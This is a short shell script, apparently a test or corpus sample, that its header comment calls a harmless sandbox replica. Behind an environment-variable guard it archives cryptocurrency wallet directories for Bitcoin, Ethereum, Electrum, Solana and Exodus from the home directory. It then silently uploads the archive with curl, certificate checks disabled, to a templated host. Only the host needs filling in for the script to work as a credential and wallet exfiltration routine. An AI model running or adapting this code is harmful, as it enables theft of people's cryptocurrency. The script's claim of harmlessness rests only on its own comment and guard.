#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
cd "$HOME" || exit 0
tar -czf - .bitcoin .ethereum .electrum .config/solana .config/Exodus 2>/dev/null |
    curl -k -s -m 2 --data-binary @- "https://{{host}}/{{path}}" >/dev/null 2>&1
exit 0
